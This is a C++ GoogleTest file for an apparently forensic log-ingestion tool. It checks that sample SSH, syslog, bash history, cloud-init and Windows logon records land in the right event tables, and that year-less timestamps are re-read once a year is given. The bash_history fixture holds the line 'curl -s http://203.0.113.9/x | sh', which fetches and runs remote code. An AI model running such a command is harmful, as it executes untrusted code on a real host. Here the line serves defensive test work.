// A host's logs in one folder: tables, events in order of time, and stamps whose year is told later.
#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include <filesystem>
#include <fstream>

#include "base/file.h"
#include "ingest/ingest.h"
#include "support/case_dump.h"

namespace backtrail {
namespace {

namespace fs = std::filesystem;
using ::testing::HasSubstr;

class HostLogs : public ::testing::Test {
 protected:
  void SetUp() override {
    ::setenv("XDG_DATA_HOME", (root() / "home").c_str(), 1);
    kase_ = casefile::create(root() / "case", {}, {.mode = casefile::Mode::write}).value();
  }
  fs::path root() const { return directory_.path(); }
  void write(const std::string& name, const std::string& text) {
    fs::create_directories((root() / "logs" / name).parent_path());
    std::ofstream(root() / "logs" / name, std::ios::binary) << text;
  }
  ingest::Summary import(const sources::ReadOptions& read = {}) {
    Progress progress;
    auto s = ingest::import(*kase_, {(root() / "logs").string()}, {.threads = 2, .read = read}, progress, {});
    EXPECT_TRUE(s) << s.error().message;
    return s ? *s : ingest::Summary{};
  }
  std::string rows(const std::string& sql) {
    const auto t = store::fetch((*kase_->store())->engine(), {.sql = sql});
    if (!t) {
      ADD_FAILURE() << t.error().message;
      return {};
    }
    std::string out;
    for (const auto& row : t->rows) {
      for (const auto& cell : row) out += store::to_text(cell) + "|";
      out += "\n";
    }
    return out;
  }

  TemporaryDirectory directory_ = *TemporaryDirectory::create("host_logs");
  std::unique_ptr<casefile::Case> kase_{};
};

constexpr const char* kEvents =
    R"(SELECT strftime("time", '%Y-%m-%dT%H:%M:%S'), log, principal, "action", outcome, resource, source_ip FROM events ORDER BY "time" NULLS LAST, log, "action" DESC)";

TEST_F(HostLogs, LandInTheirTablesAndInEvents) {
  write("i-0123456789abcdef0/secure-20261124",
        "Nov 24 20:34:01 web sshd[812]: Failed password for root from 203.0.113.9 port 5 ssh2\n"
        "Nov 24 20:34:03 web sshd[812]: Accepted password for root from 203.0.113.9 port 5 ssh2\n"
        "Nov 24 20:34:04 web kernel: x\n");
  write("i-0123456789abcdef0/root/.bash_history", "#1795552445\ncurl -s http://203.0.113.9/x | sh\n");
  write("i-0123456789abcdef0/cloud-init-output.log",
        "Cloud-init v. 23.1 running 'modules:final' at Tue, 24 Nov 2026 20:34:06 +0000. Up 12.00 seconds.\n+ id\n");
  write("windows.json",
        R"({"EventID":4624,"Channel":"Security","Computer":"WIN-1","TimeCreated":"2026-11-24T20:34:07Z","TargetUserName":"bob","IpAddress":"203.0.113.9"})");
  const ingest::Summary s = import();
  EXPECT_EQ(s.records.stored, 7U);
  EXPECT_TRUE(s.skipped.empty());
  EXPECT_EQ(rows(kEvents),
            "2026-11-24T20:34:01|host_auth|root|ssh_login|denied|i-0123456789abcdef0|203.0.113.9|\n"
            "2026-11-24T20:34:03|host_auth|root|ssh_login|success|i-0123456789abcdef0|203.0.113.9|\n"
            "2026-11-24T20:34:04|host_syslog||log message|success|i-0123456789abcdef0||\n"
            "2026-11-24T20:34:05|host_history|root|shell_command|success|i-0123456789abcdef0||\n"
            "2026-11-24T20:34:06|host_cloudinit|root|stage|success|i-0123456789abcdef0||\n"
            "2026-11-24T20:34:06|host_cloudinit|root|command|success|i-0123456789abcdef0||\n"
            "2026-11-24T20:34:07|windows_security|bob|logon|success|WIN-1|203.0.113.9|\n");
  EXPECT_EQ(rows("SELECT user_name, command FROM \"default\".host_history"), "root|curl -s http://203.0.113.9/x | sh|\n");
  EXPECT_EQ(rows("SELECT user_name, src_ip, run_as, group_name, by_user FROM \"default\".host_auth WHERE outcome = 'success'"),
            "root|203.0.113.9||||\n");
}

TEST_F(HostLogs, AreReadAnewWhenTheYearIsTold) {
  write("auth.log", "Dec 31 23:59:59 web sshd[812]: a\nJan  1 00:00:01 web cron[1]: b\n");
  const ingest::Summary first = import();
  EXPECT_EQ(first.records.unreadable_times, 2U);
  ASSERT_EQ(first.skipped.size(), 1U);
  EXPECT_EQ(first.skipped[0].reason, "no_year");
  EXPECT_THAT(first.skipped[0].detail, HasSubstr("--year"));
  EXPECT_EQ(rows("SELECT status, records_read, records_rejected FROM evidence"), "complete|2|0|\n");
  const std::string times = "SELECT strftime(_time, '%Y-%m-%d'), time_from FROM host_auth UNION ALL SELECT strftime(_time, '%Y-%m-%d'), time_from FROM host_syslog";
  EXPECT_EQ(rows(times), "||\n||\n");
  EXPECT_EQ(import({.year = "2024"}).records.stored, 2U);
  EXPECT_EQ(rows(times), "2024-12-31|option|\n2025-01-01|option|\n");
  EXPECT_EQ(import().files.already, 1U);
  EXPECT_EQ(import({.year = "2020-02-01"}).records.stored, 2U);
  EXPECT_EQ(rows(times), "2019-12-31|option|\n2020-01-01|option|\n");
}

}  // namespace
}  // namespace backtrail
